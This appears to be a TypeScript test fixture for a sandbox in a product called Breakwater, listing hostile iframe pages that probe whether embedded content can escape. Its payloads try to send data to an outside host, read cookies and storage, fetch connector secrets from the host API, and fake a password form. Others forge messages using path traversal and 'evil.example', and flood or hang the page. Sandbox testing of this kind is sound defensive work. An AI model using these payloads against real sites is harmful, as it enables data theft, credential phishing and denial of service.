/** What a hostile view aims at. */
export interface Targets {
  /** An address outside that answers whoever asks. */
  readonly outside: string;
  /** `host:port` that hears UDP. */
  readonly stun: string;
}

/** One that takes what it can get. `done(text)` says what became of it: text with `GOT` is a success of the attack. */
export interface HostileView {
  readonly id: string;
  readonly html: (targets: Targets) => string;
}

const HEAD = `<html lang="en"><head><title>x</title><style>body{font:14px sans-serif}</style></head><body><p id="out">…</p><script>
const done = (text) => { document.getElementById('out').textContent = text; document.body.dataset.done = text; };
const tried = async (name, work) => { try { const got = await work(); return got === undefined ? name + ' nothing' : name + ' GOT ' + String(got).slice(0, 80); } catch (error) { return name + ' refused ' + error.name; } };
const all = async (...works) => { const said = []; for (const [name, work] of works) said.push(await tried(name, work)); done(said.join('; ')); };
const within = (ms, work) => Promise.race([work, new Promise((_, no) => setTimeout(() => no(new DOMException('late', 'Late')), ms))]);
`;
const page = (script: string, body = ''): string => `${HEAD}${script}</script>${body}</body></html>`;

/** The port that the host hands over, taken before anybody else could. */
const PORT = `const port = new Promise((take) => addEventListener('message', ({ ports }) => ports[0] && take(ports[0])));
const raw = async (message) => { const it = await port; return within(1500, new Promise((take) => { it.addEventListener('message', ({ data }) => { const read = JSON.parse(data); if (read.id === message.id) take(data); }); it.postMessage(typeof message === 'object' ? JSON.stringify(message) : message); })); };
`;

export const HOSTILE_VIEWS: readonly HostileView[] = [
  {
    id: 'fetches-outside',
    html: ({ outside }) =>
      page(`all(
        ['fetch', () => fetch('${outside}/fetch?data=1', { mode: 'no-cors' })],
        ['xhr', () => within(2000, new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', '${outside}/xhr'); x.onload = () => yes('loaded'); x.onerror = () => no(new TypeError('x')); x.send(); }))],
        ['beacon', () => { navigator.sendBeacon('${outside}/beacon', 'x'); }],
        ['socket', () => within(2000, new Promise((yes, no) => { const s = new WebSocket('${outside.replace('http', 'ws')}/socket'); s.onopen = () => yes('open'); s.onerror = () => no(new TypeError('x')); }))],
        ['events', () => within(2000, new Promise((yes, no) => { const s = new EventSource('${outside}/events'); s.onopen = () => yes('open'); s.onerror = () => no(new TypeError('x')); }))],
        ['picture', () => within(2000, new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('loaded'); i.onerror = () => no(new TypeError('x')); i.src = '${outside}/picture'; }))],
        ['style', () => { const s = document.createElement('style'); s.textContent = '@import "${outside}/style"; body{background:url(${outside}/background)}'; document.head.append(s); }],
        ['link', () => { for (const rel of ['prefetch', 'preload', 'stylesheet', 'icon', 'manifest', 'modulepreload', 'preconnect']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = '${outside}/link-' + rel; document.head.append(l); } }],
        ['module', () => import('${outside}/module.js')],
        ['worker', () => { new Worker(URL.createObjectURL(new Blob(["fetch('${outside}/worker')"]))); return 'made'; }],
      );`),
  },
  {
    id: 'calls-our-api',
    html: () =>
      page(`all(
        ['session', async () => (await fetch('/api/v1/session', { credentials: 'include' })).status],
        ['secrets', async () => (await (await fetch(location.origin + '/api/v1/connectors', { credentials: 'include' })).text())],
        ['change', async () => (await fetch('/api/v1/connectors/sast%2Fcalls-our-api', { method: 'DELETE', credentials: 'include', mode: 'no-cors' })).type],
      );`),
  },
  {
    id: 'leads-the-page-away',
    html: ({ outside }) =>
      page(`all(
        ['top', () => { top.location = '${outside}/top'; }],
        ['top href', () => { top.location.href = '${outside}/top'; }],
        ['parent', () => { parent.location.replace('${outside}/parent'); }],
        ['target', () => { const a = document.createElement('a'); a.href = '${outside}/target'; a.target = '_top'; document.body.append(a); a.click(); }],
        ['history', () => { parent.history.pushState(null, '', '/login'); }],
      );`),
  },
  {
    id: 'opens-windows',
    html: ({ outside }) =>
      page(`all(
        ['open', () => window.open('${outside}/open') ?? undefined],
        ['blank', () => { const a = document.createElement('a'); a.href = '${outside}/blank'; a.target = '_blank'; document.body.append(a); a.click(); }],
        ['alert', () => { alert('Type your password'); }],
        ['download', () => { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'x.exe'; document.body.append(a); a.click(); }],
      );`),
  },
  {
    id: 'reads-the-page',
    html: () =>
      page(`all(
        ['document', () => parent.document.title],
        ['name', () => parent.name],
        ['storage', () => parent.localStorage.length],
        ['fetch', () => parent.fetch('/api/v1/session')],
        ['own element', () => window.frameElement?.tagName],
        ['siblings', () => [...Array(parent.length).keys()].map((at) => parent[at] !== window && parent[at].document.title).filter(Boolean)[0]],
      );`),
  },
  {
    id: 'reads-storage',
    html: () =>
      page(`all(
        ['cookie', () => document.cookie],
        ['cookie write', () => { document.cookie = 'accessToken=forged; path=/'; }],
        ['local', () => localStorage.length],
        ['session', () => sessionStorage.length],
        ['database', () => within(2000, new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = () => yes('open'); r.onerror = () => no(new TypeError('x')); }))],
        ['caches', () => caches.open('x')],
        ['service worker', () => navigator.serviceWorker.register('/sw.js')],
        ['origin', () => (self.origin === 'null' ? undefined : self.origin)],
      );`),
  },
  {
    id: 'forges-messages',
    html: () =>
      page(`${PORT}
      const refused = async (message) => { const text = await raw({ id: 0, ...message }); const read = JSON.parse(text); if ('error' in read) throw Object.assign(new Error(), { name: read.error.code }); return text; };
      (async () => {
        const names = [
          { id: 1, method: 'getSecret' }, { id: 2, method: 'getConnection', connectorId: 'fetches-outside' },
          { id: 3, method: 'call', route: 'GET /../../fetches-outside/routes/projects' }, { id: 4, method: 'call', route: 'GET /projects/../../../../../session' },
          { id: 5, method: 'call', route: 'DELETE /projects' }, { id: 6, method: 'call', route: 'GET /%2e%2e/session' }, { id: 7, method: 'call', route: 'GET //evil.example/x' },
          { id: 8, method: 'call', route: 'GET /projects?x=1#y' }, { id: 9, method: 'call', route: 'GET /projects', connectorId: 'fetches-outside' },
          { id: 10, method: '__proto__' }, { id: 11, method: 'constructor' }, { id: 12, method: 'call', route: ['GET /projects'] },
          { id: 13, method: 'call', route: 'GET /unknown' }, { id: 14, method: 'resize', height: 'all' },
          { id: 15, method: 'call', route: 'POST /notes', input: { text: 'x', more: 1 } },
        ];
        const said = [];
        for (const message of names) said.push(await tried(message.id, () => refused(message)));
        const big = await tried('big', () => raw('{"id":16,"method":"getConnection","pad":"' + 'x'.repeat(70000) + '"}'));
        const object = await tried('object', async () => { (await port).postMessage({ id: 17, method: 'getConnection' }); return within(800, new Promise(() => {})); });
        const facts = JSON.parse(await raw({ id: 18, method: 'getConnection' })).result;
        said.push(big, object, 'facts ' + Object.keys(facts).sort().join(',') + ' ' + JSON.stringify(facts.config));
        done(said.join('; '));
      })();`),
  },
  {
    id: 'floods-the-channel',
    html: () =>
      page(
        `${PORT} port.then((it) => { for (let n = 1; n <= 20000; n += 1) it.postMessage('{"id":' + n + ',"method":"getConnection"}'); done('sent'); });`,
      ),
  },
  {
    id: 'floods-the-window',
    html: () =>
      page(
        `setTimeout(() => { for (let n = 0; n < 20000; n += 1) parent.postMessage('x'.repeat(1000), '*'); done('sent'); }, 500);`,
      ),
  },
  { id: 'floods-from-the-start', html: () => page("for (;;) parent.postMessage('x', '*');") },
  { id: 'hangs-from-the-start', html: () => page('for (;;);') },
  {
    id: 'calls-too-often',
    html: () =>
      page(`(async () => {
        const codes = await Promise.all(Array.from({ length: 12 }, () => breakwater.call('GET /slow').then(() => 'answered', (error) => error.code)));
        done('at once ' + codes.filter((code) => code === 'answered').length + ', refused ' + codes.filter((code) => code === 'rate_limited').length);
      })();`),
  },
  { id: 'never-ends', html: () => page('setTimeout(() => { for (;;); }, 500);') },
  {
    id: 'grows',
    html: () =>
      page(
        `breakwater.resize(1e9).then(() => done('resized'));`,
        '<div style="height:100000px;width:100000px">x</div>',
      ),
  },
  {
    id: 'asks-for-a-password',
    html: ({ outside }) =>
      page(
        `setTimeout(() => { const form = document.forms[0]; form.password.value = 'secret'; form.submit(); form.requestSubmit(); setTimeout(() => done('sent the form'), 500); }, 300);`,
        `<form action="${outside}/form" method="post"><label>Breakwater password <input name="password" type="password"></label><button>Sign in</button></form>`,
      ),
  },
  {
    id: 'leaves-with-data',
    html: ({ outside }) => page(`setTimeout(() => { location = '${outside}/left?data=secret'; }, 500);`),
  },
  {
    id: 'refreshes-away',
    html: ({ outside }) => page('', `<meta http-equiv="refresh" content="0;url=${outside}/refresh?data=secret">`),
  },
  {
    id: 'loads-our-page',
    html: () => page(`setTimeout(() => { location = '/connector/providers'; }, 500);`),
  },
  {
    id: 'talks-webrtc',
    html: ({ stun }) => {
      const rtc = `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));`;
      return page(`all(
        ['direct', async () => { ${rtc} await within(1500, new Promise(() => {})); }],
        ['own frame', () => { const f = document.createElement('if' + 'rame'); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection; }],
        ['srcdoc', () => { const f = document.createElement('if' + 'rame'); f.srcdoc = ${JSON.stringify(`<script>${rtc}</scr`)} + 'ipt>'; document.body.append(f); return 'set'; }],
        ['attribute', () => { const f = document.createElement('if' + 'rame'); f.setAttribute('srcdoc', ${JSON.stringify(`<script>${rtc}</scr`)} + 'ipt>'); document.body.append(f); return 'set'; }],
        ['markup', () => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); return 'set'; }],
        ['code', () => (0, eval)('1')],
      );`);
    },
  },
];
